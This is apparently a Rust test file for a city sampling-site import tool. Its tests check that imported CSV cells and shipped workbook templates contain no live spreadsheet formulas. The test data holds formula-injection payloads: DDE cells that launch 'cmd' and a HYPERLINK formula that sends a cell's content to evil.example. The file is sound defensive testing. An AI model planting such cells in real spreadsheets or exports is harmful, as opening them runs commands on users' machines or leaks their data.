//! Cells that a spreadsheet would run, when staff open the sheet again.

use std::fs;

use crate::support::import::{file, import};
use crate::support::{City, Folder, anxin, text};
use anxin_import::csv::parse;

/// What is nothing but a formula is no text, and empty; what only begins like one is somebody's text.
const LIST: &str = "采样点名称,地址,开放时间,备注,联系电话\n\
    +甲点,-甲路1号,8:00-17:00,\"@SUM(1+9)*cmd|' /C calc'!A0\",0573-0000-1000\n\
    @乙点,+乙路2号,8:00-17:00,-2+3+cmd|' /C calc'!A0,+86 0573-0000-1001\n\
    丙点,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"丙路3号\"\")\",8:00-17:00,=1+1,0573-0000-1002\n";

/// Every cell of a sheet.
fn cells(city: &City, name: &str) -> Vec<String> {
    let sheet = fs::read_to_string(city.path().join(name)).unwrap();
    parse(&sheet).unwrap().into_iter().flat_map(|row| row.cells).collect()
}

fn is_run(cell: &str) -> bool {
    cell.trim_start().starts_with(['=', '@', '\t', '\r', '＝', '＠', '＋', '－'])
        || cell
            .trim_start()
            .strip_prefix(['+', '-'])
            .is_some_and(|rest| rest.contains(|c: char| c.is_alphabetic() || c == '+'))
}

#[test]
fn no_cell_of_an_imported_list_is_a_formula_in_the_sheet_and_residents_read_it_as_it_was() {
    let (city, folder) = (City::new(), Folder::new());
    let list = file(&folder, "=cmd清单.csv", LIST);
    assert!(cells_of_text(LIST).iter().any(|cell| is_run(cell)), "the list is harmful");
    let now = ["--now", "2022-03-16 09:00"];
    let (code, report) = import(city.path(), &list, "sites", &now);
    assert!(code == 0 && report["imported"] == 3, "{report}");
    for sheet in ["sites.csv", "sources.csv", "towns.csv"] {
        let run: Vec<_> = cells(&city, sheet).into_iter().filter(|cell| is_run(cell)).collect();
        assert!(run.is_empty(), "{sheet}: {run:?}");
    }
    assert!(["'+甲点", "'@乙点"].iter().all(|name| cells(&city, "sites.csv").iter().any(|cell| cell == name)));
    // Nothing of the guard reaches a resident, and a second import finds its rows again.
    let (_, report) = import(city.path(), &list, "sites", &now);
    assert_eq!(report["merged"]["unchanged"], 3, "{report}");
    let out = Folder::new();
    let (code, said, err) = anxin(&["build", text(city.path()), text(out.path())]);
    assert_eq!(code, 0, "{said}{err}");
    let sites = fs::read_to_string(out.join("sites.geojson")).unwrap();
    assert!(sites.contains("\"+甲点\"") && sites.contains("\"@乙点\"") && !sites.contains("evil"), "{sites}");
}

fn cells_of_text(text: &str) -> Vec<String> {
    parse(text).unwrap().into_iter().flat_map(|row| row.cells).collect()
}

#[test]
fn a_workbook_that_is_handed_out_has_no_formula() {
    let folder = Folder::new();
    let city = folder.join("city");
    assert_eq!(anxin(&["new", text(&city)]).0, 0);
    let mut books = 0;
    for entry in fs::read_dir(city.join("template")).unwrap().map(|entry| entry.unwrap().path()) {
        let mut archive = zip::ZipArchive::new(fs::File::open(&entry).unwrap()).unwrap();
        let names: Vec<String> = archive.file_names().map(|name| name.unwrap().into_owned()).collect();
        for name in names.iter().filter(|name| name.starts_with("xl/worksheets/")) {
            let sheet = std::io::read_to_string(archive.by_name(name).unwrap()).unwrap();
            assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{name}");
            books += 1;
        }
    }
    assert!(books >= 4);
    for file in crate::support::tree(&city).into_keys().filter(|file| file.extension().is_some_and(|end| end == "csv"))
    {
        let sheet = fs::read_to_string(&file).unwrap();
        // A test of a table is no text: `-` is "any".
        assert!(!cells_of_text(&sheet).iter().any(|cell| is_run(cell)), "{}", file.display());
    }
}
